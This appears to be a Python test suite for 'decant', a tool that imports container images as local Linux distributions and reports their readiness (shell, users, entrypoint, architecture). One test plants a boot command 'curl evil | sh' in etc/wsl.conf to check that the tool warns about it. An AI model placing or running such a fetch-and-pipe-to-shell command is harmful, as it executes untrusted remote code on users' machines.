# SPDX-License-Identifier: MIT
import json
import pathlib
import struct
import unittest

from decant import DecantTest, PREPARED
from oci_image import HOST, Layer, Layout

#: Another computer's: Go's name, and ELF's number.
FOREIGN, MACHINE = ("amd64", 62) if HOST == "arm64" else ("arm64", 183)
EMULATOR = pathlib.Path("/proc/sys/fs/binfmt_misc/qemu-" +
                        {"amd64": "x86_64", "arm64": "aarch64"}[FOREIGN])


def elf(machine):
    """The head of a static 64-bit program."""
    return struct.pack("<4sBBB9xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 2, machine, 1, 0, 64, 0, 0,
                       64, 56, 0, 0, 0, 0)


class ReadinessTest(DecantTest):
    """Can a person live in it? Said before anything is written."""

    def report(self, outcome):
        event, = [event for event in outcome.events() if event["event"] == "report"]
        return event

    def ids(self, report, severity):
        return [finding["id"] for finding in report["findings"]
                if finding["severity"] == severity]

    def test_debian_is_ready_and_what_it_lacks_is_only_noted(self):
        report = self.report(self.succeed("--json", "import", f"oci:{PREPARED}/layout:debian",
                                          "--name", "d1"))
        self.assertEqual(report["verdict"], "ready", report)
        self.assertEqual({finding["severity"] for finding in report["findings"]}, {"note"}, report)
        self.assertIn("no-sudo", self.ids(report, "note"))
        self.assertIn("setuid", self.ids(report, "note"))
        self.assertRegex(report["system"], "Debian|Ubuntu")
        for fact, value in (("libc", "glibc"), ("packageManager", "apt"), ("shell", "/bin/sh"),
                            ("systemd", False)):
            self.assertEqual(report[fact], value)

    def test_inspect_says_the_same_once_all_layers_are_here(self):
        debian = self.registry.name("lab/debian", "1")
        before = json.loads(self.succeed("--json", "inspect", debian).out)
        self.assertEqual(before["verdictStage"], "likely")
        self.assertNotIn("report", before)
        imported = self.report(self.succeed("--json", "save", debian, "--output",
                                            self.scratch / "out.tar"))
        after = json.loads(self.succeed("--json", "inspect", debian).out)
        self.assertEqual(after["verdictStage"], "checked")
        imported.pop("event")
        self.assertEqual(after["report"], imported)
        shown = self.succeed("inspect", debian).out
        self.assertIn("Works well as a distribution. (Checked, file by file.)", shown)

    def test_inspect_checks_a_folder_at_once(self):
        shown = json.loads(self.succeed("--json", "inspect", f"oci:{PREPARED}/layout:debian").out)
        self.assertEqual(shown["report"]["verdict"], "ready")

    def test_without_a_shell_import_stops_and_save_warns(self):
        layout = Layout(self.scratch / "image")
        layout.image("1", [layout.gzip_layer(Layer().file("app", b"x", mode=0o4755).tar())])
        source = f"oci:{layout.folder}:1"
        refused = self.run_decant("--quiet", "import", source, "--name", "d1")
        self.assertEqual(refused.status, 2, refused)
        self.assert_one_sentence(refused)
        self.assertIn("no shell", refused.err)
        self.assert_nothing_left()
        saved = self.succeed("save", source, "--output", self.scratch / "out.tar")
        self.assertRegex(saved.err, "(?m)^Warning: This image has no shell")

    def test_a_boot_command_is_said_before_it_runs(self):
        layout = Layout(self.scratch / "image")
        layer = Layer().file("bin/sh", b"#!", mode=0o755)
        layer.file("etc/wsl.conf", b"[boot]\ncommand=curl evil | sh\n")
        layout.image("1", [layout.gzip_layer(layer.tar())])
        done = self.succeed("import", f"oci:{layout.folder}:1", "--name", "d1")
        self.assertRegex(done.err, r"(?m)^Warning: .*curl evil \| sh")

    def small(self, shell=b"#!", passwd=b"", **settings):
        """An image of next to nothing that says this of itself."""
        layer = Layer().file("bin/sh", shell, mode=0o755)
        layer.file("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n" + passwd)
        layout = Layout(self.scratch / "image")
        layout.image("1", [layout.gzip_layer(layer.tar())], **settings)
        return f"oci:{layout.folder}:1"

    def test_an_application_image_is_told_by_its_entrypoint_and_ports(self):
        source = self.small(command=("nginx", "-g", "daemon off;"),
                            Entrypoint=["/docker-entrypoint.sh"], ExposedPorts={"80/tcp": {}})
        report = self.report(self.succeed("--json", "import", source, "--name", "d1"))
        self.assertEqual(report["verdict"], "limited")
        self.assertIn("application-image", self.ids(report, "warning"))
        self.assertEqual(report["sentence"],
                         "It starts “nginx” instead of a shell and was built to run one program. "
                         "It can still be used, but tools may be missing.")
        shown = json.loads(self.succeed("--json", "inspect", source).out)
        self.assertEqual(shown["verdict"]["kind"], "application-image")
        self.assertIn("application-image", self.ids(shown["report"], "warning"))

    def test_a_user_that_is_not_root_is_said_until_somebody_is_chosen(self):
        source = self.small(User="app:app")
        report = self.report(self.succeed("--json", "import", source, "--name", "d1"))
        self.assertIn("image-user", self.ids(report, "warning"))
        finding, = [one for one in report["findings"] if one["id"] == "image-user"]
        self.assertIn("“app”", finding["what"])
        self.assertTrue(finding["fix"])
        chosen = self.report(self.succeed("--json", "import", source, "--name", "d2",
                                          "--user", "anna", "--no-password"))
        self.assertNotIn("image-user", self.ids(chosen, "warning"))

    def test_a_user_of_the_image_who_could_live_there_is_named(self):
        source = self.small(passwd=b"web:x:33:33::/:/bin/sh\n"
                                   b"ubuntu:x:1000:1000::/home/u:/bin/sh\n")
        shown = json.loads(self.succeed("--json", "inspect", source).out)
        self.assertEqual(shown["report"]["ordinaryUser"], "ubuntu")
        self.assertRegex(self.succeed("inspect", source).out, r"(?m)^Account +ubuntu$")
        done = self.succeed("import", source, "--name", "d1", "--user", "ubuntu", "--no-password")
        self.assertIn("The image's user “ubuntu” (number 1000) is yours", done.err)
        done = self.succeed("import", source, "--name", "d2", "--user", "anna", "--no-password")
        self.assertIn("The image's own user “ubuntu” stays, too.", done.err)

    def test_the_images_folder_is_not_where_a_distribution_starts(self):
        source = self.small(WorkingDir="/srv/app")
        report = self.report(self.succeed("--json", "import", source, "--name", "d1"))
        finding, = [one for one in report["findings"] if one["id"] == "working-directory"]
        self.assertEqual(finding["severity"], "note")
        self.assertIn("/srv/app", finding["what"])

    @unittest.skipIf(EMULATOR.exists(), "this computer runs the other's programs")
    def test_programs_of_another_computer_stop_an_import_whatever_the_image_claims(self):
        source = self.small(shell=elf(MACHINE))
        refused = self.run_decant("--json", "import", source, "--name", "d1")
        self.assertEqual(refused.status, 2, refused)
        report = self.report(refused)
        self.assertEqual(report["verdict"], "unusable")
        self.assertEqual(self.ids(report, "blocker"), ["foreign-architecture"])
        self.assertEqual(report["architecture"], FOREIGN)
        self.assertIn(f"made for {FOREIGN}, this computer is {HOST}", report["sentence"])
        self.assert_nothing_left()
